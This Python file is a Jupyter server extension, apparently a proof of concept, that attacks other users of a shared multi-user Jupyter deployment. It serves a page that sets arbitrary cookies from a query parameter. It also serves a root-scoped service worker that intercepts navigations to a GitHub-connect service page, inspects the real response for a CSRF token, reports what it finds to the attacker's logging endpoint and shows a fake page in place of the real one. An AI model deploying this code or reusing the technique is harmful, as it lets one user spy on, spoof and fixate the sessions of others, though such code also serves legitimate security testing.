"""Pages that the owner of a Jupyter server serves to whoever comes: no login."""

import os

from jupyter_server.utils import url_path_join
from tornado import web

NOTES = os.path.join(os.path.dirname(__file__), "notes.txt")

WORKER = """
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  const path = new URL(event.request.url).pathname;
  if (event.request.mode !== 'navigate' || !path.startsWith('/services/connect-github/')) return;
  event.respondWith((async () => {
    const answer = await fetch(event.request);
    const text = await answer.text();
    const csrf = text.includes('csrf-token');
    await fetch('/user/eve/note?' + new URLSearchParams({path, status: answer.status, csrf}));
    return new Response('<!doctype html><h1 id="fake">not the page</h1>', {headers: {'Content-Type': 'text/html'}});
  })());
});
"""


class Page(web.RequestHandler):
    """A page of eve's. What is in ?cookie= is set by the server for the path /."""

    def get(self):
        for cookie in self.get_arguments("cookie"):
            self.add_header("Set-Cookie", cookie)
        self.set_header("Content-Type", "text/html")
        self.write("<!doctype html><title>eve's</title><p id=eves>holiday pictures</p>")


class Worker(web.RequestHandler):
    def get(self):
        self.set_header("Content-Type", "text/javascript")
        self.set_header("Service-Worker-Allowed", "/")
        self.write(WORKER)


class Note(web.RequestHandler):
    def get(self):
        with open(NOTES, "a", encoding="utf-8") as file:
            file.write(self.request.query + "\n")


def _jupyter_server_extension_points():
    return [{"module": "evilext"}]


def _load_jupyter_server_extension(app):
    base = app.web_app.settings["base_url"]
    app.web_app.add_handlers(
        ".*$",
        [(url_path_join(base, "holiday"), Page), (url_path_join(base, "sw.js"), Worker), (url_path_join(base, "note"), Note)],
    )
